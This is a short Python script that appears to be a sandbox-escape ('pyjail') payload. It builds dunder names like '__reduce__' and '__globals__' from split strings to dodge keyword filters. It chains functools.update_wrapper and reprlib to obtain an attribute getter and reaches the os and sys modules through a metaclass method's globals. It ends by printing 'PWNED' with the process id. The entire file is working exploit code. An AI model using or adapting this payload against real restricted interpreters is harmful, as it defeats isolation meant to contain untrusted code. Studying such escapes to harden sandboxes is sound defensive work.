import functools
box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
extra = (("__red" + "uce__",), ())
w = W()
functools.update_wrapper(w, (1).__add__, *extra)
red = box["__red" + "uce__"]
g, args = red()
print("helper:", g)
import reprlib, abc
r = reprlib.Repr()
r.repr_function = g
meta = type(abc.ABC)
G = r.repr1(meta.register, "__glo" + "bals__")
osm = G["o" + "s"]
sysm = G["s" + "ys"]
print("PW" + "NED", osm.getpid(), len(sysm.modules))
